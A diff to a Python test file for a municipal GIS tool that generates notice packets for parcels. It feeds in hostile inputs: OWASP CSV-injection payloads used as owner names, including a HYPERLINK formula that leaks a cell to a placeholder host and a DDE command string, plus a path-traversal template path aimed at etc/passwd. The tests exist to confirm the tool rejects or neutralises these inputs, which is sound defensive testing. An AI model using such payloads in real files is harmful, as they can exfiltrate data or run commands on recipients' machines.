@@ -41,7 +41,9 @@ HANG_TIMEOUT_S = 120
 #: OWASP's CSV-injection payloads, each as an owner's name.
 PAYLOADS = ('=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "=cmd|' /C calc'!A0",
             "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1")
-#: Parcels of the sample the town could order to connect (packets are written for them).
+#: Parcels of the sample served with notice while on a private system; the fixture below
+#: records a health hazard for every parcel, the ground an order needs (§ 168-22.3C), so
+#: packets are written for them.
 PARCELS = ("6262-10-275", "6262-11-239")
 
 
@@ -222,13 +224,14 @@ def hostile_owners(tmp_path_factory):
     key = parcels["PRINT_KEY"]
     parcels.loc[key == PARCELS[0], "PROP_ADDR"] = "12 " + "Long" * 2500
     parcels.loc[key == PARCELS[1], "OWNER"] = "W" * 10_000
+    parcels["HEALTHHAZ"] = "Y"  # every parcel: a ground on which notice may be given
     src = folder / "parcels.gpkg"
     pyogrio.write_dataframe(parcels, src)
     town = load_town(SAMPLE, overrides={"parcels": str(src)})
     res = analyse(town, only=["obligations"])
     ob = res.obligations.obligations
-    ids = [str(i) for i in ob.loc[ob["status"].isin(["required", "subject_to_notice"]),
-                                  "parcel_id"]][:12]
+    assert set(ob.loc[ob["parcel_id"].isin(PARCELS), "status"]) == {"required"}
+    ids = [str(i) for i in ob.loc[ob["status"] == "required", "parcel_id"]][:12]
     return town, res, sorted(set(ids) | set(PARCELS))
 
 
@@ -337,7 +340,8 @@ def test_a_town_file_template_outside_the_town_is_refused(town_copy, capsys, mon
     import gisnet.pipeline
 
     tf = town_copy / "gisnet.toml"
-    tf.write_text(tf.read_text() + '\n[notices]\ntemplate = "' + "../" * 30 + 'etc/passwd"\n')
+    tf.write_text(tf.read_text().replace(
+        "[notices]\n", '[notices]\ntemplate = "' + "../" * 30 + 'etc/passwd"\n', 1))
     monkeypatch.setattr(gisnet.pipeline, "analyse", lambda *a, **k: pytest.fail("analysed"))
     line = _one_error(*_cli(["notices", "--layers", str(town_copy), "--out",
                              str(town_copy.parent / "n")], capsys)[::2])
